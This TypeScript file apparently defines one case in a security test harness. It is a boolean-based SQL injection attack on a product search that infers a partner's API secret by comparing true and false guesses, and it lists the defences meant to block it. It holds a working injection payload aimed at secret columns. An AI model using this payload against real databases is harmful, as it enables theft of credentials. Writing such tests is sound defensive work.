import type { Attack } from "../attack.ts";
import { summary } from "../exchange.ts";
import { search, searchTwin, skus } from "./shared/requests.ts";

/** True when the secret begins with the guess: the answer to one question, and enough of them spell the secret. */
const guess = (prefix: string): string =>
  `Mug' AND EXISTS(SELECT 1 FROM partners WHERE api_secret LIKE '${prefix}%') -- `;

export const sqliBoolean: Attack = {
  id: "sqli-boolean",
  title: "Guess a partner's secret by true and false (boolean SQL injection)",
  owasp: ["SAS-1", "CWE-89"],
  paper: "IV.1.B",
  defences: ["edge:sql-injection", "function:search-term", "function:prepared-statement", "database:grants"],
  operation: "searchProducts",
  target: "catalog",
  run: async (context) => {
    const right = await context.send(search(context, guess(context.seed.globex.apiSecret.slice(0, 8))));
    const wrong = await context.send(search(context, guess("zzzzzzzz")));
    const effect = skus(right).includes("MUG-1") && skus(wrong).length === 0 && wrong.response.status === 200;
    return {
      effect,
      evidence: effect
        ? `the mug is found exactly when the guess "${context.seed.globex.apiSecret.slice(0, 8)}" is right`
        : `${summary(right)} and ${summary(wrong)}`,
    };
  },
  twin: searchTwin,
};
